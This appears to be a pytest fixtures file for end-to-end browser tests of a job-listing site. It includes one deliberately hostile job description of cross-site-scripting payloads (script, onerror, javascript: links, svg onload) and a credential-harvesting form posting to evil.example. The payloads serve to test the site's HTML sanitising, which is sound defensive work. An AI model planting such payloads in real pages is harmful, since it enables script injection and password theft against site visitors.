"""End-to-end fixtures: the real site over a demo store, driven by Debian's headless Chromium through Playwright.

One store and one site serve the whole run: ``jobsift demo --no-serve`` crawls the bundled snapshots into a temporary
SQLite file (about 5 s), one hostile board is crawled beside them through the same pipeline, and ``jobsift web``
serves the result on a free loopback port. One browser serves every test; each test gets its own context, so cookies
and viewport never leak between tests.
"""

from __future__ import annotations

import html
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, Playwright, Response, sync_playwright

from config.settings import load_settings
from config.sources import platform_terms
from crawlers.run import spawn_batch
from jobsift.demo.server import FeedServer, Route
from store.db import Database
from store.queries.sources import upsert_source
from tests.conftest import TEST_SECRET

CHROMIUM = Path(os.environ.get("JOBSIFT_E2E_CHROMIUM", "/usr/bin/chromium"))
# Playwright adds --headless itself. Without the background-networking flags Chromium keeps dialling Google's hosts,
# which this closed network refuses; without --no-sandbox it cannot start as root.
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
DESKTOP = {"width": 1280, "height": 900}
PHONE = {"width": 390, "height": 844}
# Screenshots are kept under pytest's tmp dir and copied here, where a person (or a session) looks at them.
SHOTS_DIR = Path(os.environ.get("JOBSIFT_E2E_SHOTS", "/tmp/e2e-shots"))

HOSTILE_COMPANY = "Nightshade Labs"
HOSTILE_TITLE = "Backend Engineer, Payments API"
# Everything a description may try: each would set window.__jobsiftPwned or log to the console if it ran.
HOSTILE_DESCRIPTION = """
<p>Build Python and PostgreSQL services for our payments API, on a small back-end team.</p>
<script>window.__jobsiftPwned = "script"; console.error("pwned by script");</script>
<img src="/missing.png" onerror="window.__jobsiftPwned = 'img'; console.error('pwned by img')">
<p id="hover-me" onmouseover="window.__jobsiftPwned = 'hover'">Hover over this line.</p>
<a id="js-link" href="javascript:window.__jobsiftPwned = 'link'">A javascript: link</a>
<iframe src="javascript:parent.__jobsiftPwned = 'iframe'"></iframe>
<svg onload="window.__jobsiftPwned = 'svg'"><circle r="5"></circle></svg>
<style>body { display: none }</style>
<form action="https://evil.example/collect"><input name="password"><button>Claim</button></form>
<p>Requirements: Python, PostgreSQL, REST APIs.</p>
"""


@dataclass(frozen=True)
class Site:
    url: str  # with a trailing slash
    data_dir: Path

    def api(self, path: str) -> dict[str, Any]:
        """A JSON answer of the site's API, fetched outside the browser (to cross-check what a page shows)."""
        with urllib.request.urlopen(self.url + path.lstrip("/"), timeout=10) as response:
            return json.load(response)  # type: ignore[no-any-return]


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _site_environ(data_dir: Path) -> dict[str, str]:
    # The caller's own JOBSIFT_* settings (a PostgreSQL URL, say) must not leak into the demo store.
    inherited = {k: v for k, v in os.environ.items() if not k.startswith("JOBSIFT_")}
    return {
        **inherited,
        "JOBSIFT_DATA_DIR": str(data_dir),
        "JOBSIFT_DATABASE_URL": f"sqlite:///{data_dir / 'jobsift.db'}",
        "JOBSIFT_SECRET_KEY": TEST_SECRET,
        "JOBSIFT_LOG_LEVEL": "WARNING",
    }


def greenhouse_job(
    number: int, title: str, company: str, location: str, description: str, now: datetime
) -> dict[str, Any]:
    """One job of a Greenhouse board API answer (``?content=true``), as the real board serves it."""
    stamp = now.replace(microsecond=0).isoformat()
    return {
        "absolute_url": f"https://job-boards.greenhouse.io/{company.split()[0].lower()}/jobs/{number}",
        "internal_job_id": number - 1_000_000,
        "location": {"name": location},
        "metadata": [],
        "id": number,
        "updated_at": stamp,
        "requisition_id": f"R-{number}",
        "title": title,
        "company_name": company,
        "first_published": stamp,
        "language": "en",
        "application_deadline": None,
        # Greenhouse escapes its HTML once, as the real board API does.
        "content": html.escape(description),
        "departments": [{"id": 4000001, "name": "Engineering", "child_ids": [], "parent_id": None}],
        "offices": [{"id": 4000002, "name": "Remote", "location": "Remote", "child_ids": [], "parent_id": None}],
    }


def crawl_board(environ: dict[str, str], key: str, name: str, jobs: list[dict[str, Any]]) -> None:
    """Crawl a Greenhouse board of these jobs, served on loopback, through the real crawl pipeline (as the demo
    does): one ``crawlers.run`` process, which classifies and stores them."""
    settings = load_settings(environ)
    database = Database(settings.database_url)
    path = f"/greenhouse/v1/boards/{key}/jobs"
    payload = json.dumps({"jobs": jobs, "meta": {"total": len(jobs)}}).encode()
    try:
        with FeedServer({path: Route(payload)}) as server:
            with database.transaction() as session:
                source_id = upsert_source(
                    session,
                    key=key,
                    name=name,
                    kind="greenhouse",
                    url=f"{server.url}{path}?content=true",
                    terms=platform_terms("greenhouse"),
                    now=datetime.now(UTC),
                ).id
            code = spawn_batch(
                [source_id], {**settings.child_environ(), "JOBSIFT_ALLOW_PRIVATE_NETWORKS": "1"}, timeout=120
            )
    finally:
        database.dispose()
    assert code == 0, f"the crawl of {name} exited {code}"


def _crawl_hostile_board(environ: dict[str, str]) -> None:
    """One board whose description attacks the page."""
    job = greenhouse_job(
        7000001, HOSTILE_TITLE, HOSTILE_COMPANY, "Remote - Europe", HOSTILE_DESCRIPTION, datetime.now(UTC)
    )
    crawl_board(environ, "e2e-nightshade", "Nightshade Labs board", [job])


def serve(args: list[str], environ: dict[str, str], log_path: Path) -> tuple[subprocess.Popen[bytes], str]:
    """``jobsift ARGS --port N`` on a free port, once it answers 200 at ``/``; returns the process and its address.

    A port taken between choosing and binding is retried on another. ``JOBSIFT_BASE_URL`` is set to the address it
    serves on, so the absolute links it writes (in emails, say) lead back to it."""
    command = " ".join(["jobsift", *args])
    for _ in range(5):
        port = _free_port()
        url = f"http://127.0.0.1:{port}/"
        with log_path.open("ab") as log:
            proc = subprocess.Popen(
                [sys.executable, "-m", "jobsift", *args, "--port", str(port)],
                env={**environ, "JOBSIFT_BASE_URL": url.rstrip("/")},
                stdout=log,
                stderr=subprocess.STDOUT,
            )
        deadline = time.monotonic() + 30
        while proc.poll() is None and time.monotonic() < deadline:
            try:
                with urllib.request.urlopen(url, timeout=2) as response:
                    if response.status == 200:
                        return proc, url
            except (urllib.error.URLError, ConnectionError):
                time.sleep(0.1)
        stop_process(proc)
    raise AssertionError(f"{command} did not start serving; its log:\n{log_path.read_text(errors='replace')}")


def stop_process(proc: subprocess.Popen[bytes]) -> None:
    proc.terminate()
    try:
        proc.wait(timeout=10)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    data_dir = tmp_path_factory.mktemp("e2e-site")
    environ = _site_environ(data_dir)
    demo = subprocess.run(
        [sys.executable, "-m", "jobsift", "demo", "--no-serve"],
        env=environ,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert demo.returncode == 0, demo.stdout + demo.stderr
    _crawl_hostile_board(environ)
    proc, url = serve(["web"], environ, data_dir / "web.log")
    try:
        yield Site(url=url, data_dir=data_dir)
    finally:
        stop_process(proc)


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    if not (CHROMIUM.is_file() and os.access(CHROMIUM, os.X_OK)):
        pytest.fail(
            f"Chromium not found at {CHROMIUM}. Install Debian's package as root: "
            "`DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends chromium` "
            "(CI does this in .ci/services; `make services` runs it), or point JOBSIFT_E2E_CHROMIUM at a Chromium. "
            "Do not run `playwright install`: the tests use the system Chromium.",
            pytrace=False,
        )
    with sync_playwright() as playwright:
        yield _launch(playwright)


def _launch(playwright: Playwright) -> Browser:
    return playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)


@dataclass
class Problems:
    """What went wrong in the browser while a test ran: script errors, console errors and 5xx answers."""

    items: list[str] = field(default_factory=list)

    def on_console(self, message: ConsoleMessage) -> None:
        url = message.location.get("url", "")
        # The site has no icon; Chromium asks for /favicon.ico on its own, which is not the page's doing.
        if message.type == "error" and not url.endswith("/favicon.ico"):
            self.items.append(f"console error: {message.text} ({url[:200]})")

    def on_page_error(self, error: Exception) -> None:
        self.items.append(f"page error: {error}")

    def on_response(self, response: Response) -> None:
        if response.status >= 500:
            self.items.append(f"{response.status} from {response.url[:200]}")


OpenPage = Callable[..., Page]


@pytest.fixture
def problems() -> Problems:
    return Problems()


@contextmanager
def page_opener(browser: Browser, base_url: str, problems: Problems, timeout_ms: int = 10_000) -> Iterator[OpenPage]:
    """Opens pages on ``base_url``, each in a fresh context (``PHONE`` for a phone, ``javascript=False`` for a
    browser without scripts) that reports to ``problems``; every context is closed on leaving."""
    contexts: list[BrowserContext] = []

    def open_(viewport: dict[str, int] = DESKTOP, path: str | None = None, javascript: bool = True) -> Page:
        phone = viewport["width"] < 600
        context = browser.new_context(
            base_url=base_url,
            viewport=viewport,
            is_mobile=phone,
            has_touch=phone,
            device_scale_factor=2 if phone else 1,
            java_script_enabled=javascript,
        )
        context.set_default_timeout(timeout_ms)
        contexts.append(context)
        page = context.new_page()
        page.on("console", problems.on_console)
        page.on("pageerror", problems.on_page_error)
        page.on("response", problems.on_response)
        if path is not None:
            page.goto(path)
        return page

    try:
        yield open_
    finally:
        for context in contexts:
            context.close()


@pytest.fixture
def open_page(browser: Browser, site: Site, problems: Problems) -> Iterator[OpenPage]:
    """Opens a page on the demo site (see :func:`page_opener`)."""
    with page_opener(browser, site.url, problems) as open_:
        yield open_


@pytest.fixture
def page(open_page: OpenPage) -> Page:
    """The search page at desktop size."""
    return open_page(DESKTOP, "/")


@dataclass(frozen=True)
class Shooter:
    """Saves the whole page as NAME.png and what the first screen shows as NAME-screen.png (a tall phone page shrinks
    to a sliver in an image viewer), under the test's tmp dir and in SHOTS_DIR."""

    directory: Path

    def __call__(self, page: Page, name: str) -> list[Path]:
        SHOTS_DIR.mkdir(parents=True, exist_ok=True)
        paths = []
        for path, full_page in ((self.directory / f"{name}.png", True), (self.directory / f"{name}-screen.png", False)):
            if not full_page:
                page.evaluate("() => window.scrollTo(0, 0)")
            page.screenshot(path=str(path), full_page=full_page)
            shutil.copyfile(path, SHOTS_DIR / path.name)
            paths.append(path)
        return paths


@pytest.fixture
def shoot(tmp_path: Path) -> Shooter:
    return Shooter(tmp_path)


# --- The admin (issue 8): its own site, with the scheduler running, over an empty store. -----------------------------

ADMIN_EMAIL = "ada@example.com"
ADMIN_PASSWORD = "plum orbit lantern 42"
ADMIN_BOARD = "/greenhouse/v1/boards/gitlab/jobs"
ADMIN_CAREERS = "/careers/senior-devops.html"
FIXTURES = Path(__file__).parent.parent / "fixtures"


@dataclass(frozen=True)
class AdminSite:
    url: str  # with a trailing slash
    data_dir: Path
    feeds: FeedServer  # the loopback server the admin adds a board from (and other sites' pages)

    @property
    def board_url(self) -> str:
        return f"{self.feeds.url}{ADMIN_BOARD}?content=true"


@pytest.fixture(scope="session")
def admin_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AdminSite]:
    """A fresh store with one admin account, served by ``jobsift run`` (so "crawl now" is picked up by the real
    scheduler), and a loopback feed server with a Greenhouse board on it. The feed server is on loopback, so this
    site allows private networks, as the demo does."""
    from store.migrate import upgrade
    from store.queries.admin import create_admin

    data_dir = tmp_path_factory.mktemp("e2e-admin")
    environ = {**_site_environ(data_dir), "JOBSIFT_ALLOW_PRIVATE_NETWORKS": "1"}
    database = Database(load_settings(environ).database_url)
    try:
        upgrade(database.engine)
        with database.transaction() as session:
            create_admin(session, ADMIN_EMAIL, ADMIN_PASSWORD, datetime.now(UTC))
    finally:
        database.dispose()
    board = (FIXTURES / "greenhouse/gitlab_jobs_content_trimmed_by_committer.json").read_bytes()
    careers = (FIXTURES / "jsonld/indeed_au_viewjob_senior_devops_papercut_2026-08.html").read_bytes()
    routes = {ADMIN_BOARD: Route(board), ADMIN_CAREERS: Route(careers, "text/html; charset=utf-8")}
    with FeedServer(routes) as feeds:
        proc, url = serve(["run", "--tick", "1"], environ, data_dir / "run.log")
        try:
            yield AdminSite(url=url, data_dir=data_dir, feeds=feeds)
        finally:
            stop_process(proc)


@pytest.fixture
def open_admin_page(browser: Browser, admin_site: AdminSite, problems: Problems) -> Iterator[OpenPage]:
    """Like ``open_page``, on the admin's site; ``signed_in=True`` signs in through the login form first."""
    with page_opener(browser, admin_site.url, problems, timeout_ms=15_000) as opener:

        def open_(viewport: dict[str, int] = DESKTOP, path: str | None = None, signed_in: bool = True) -> Page:
            page = opener(viewport)
            if signed_in:
                page.goto("/admin/login")
                page.get_by_label("E-mail address").fill(ADMIN_EMAIL)
                page.get_by_label("Password").fill(ADMIN_PASSWORD)
                page.get_by_role("button", name="Sign in").click()
                page.wait_for_url("**/admin/sources")
            if path is not None:
                page.goto(path)
            return page

        yield open_
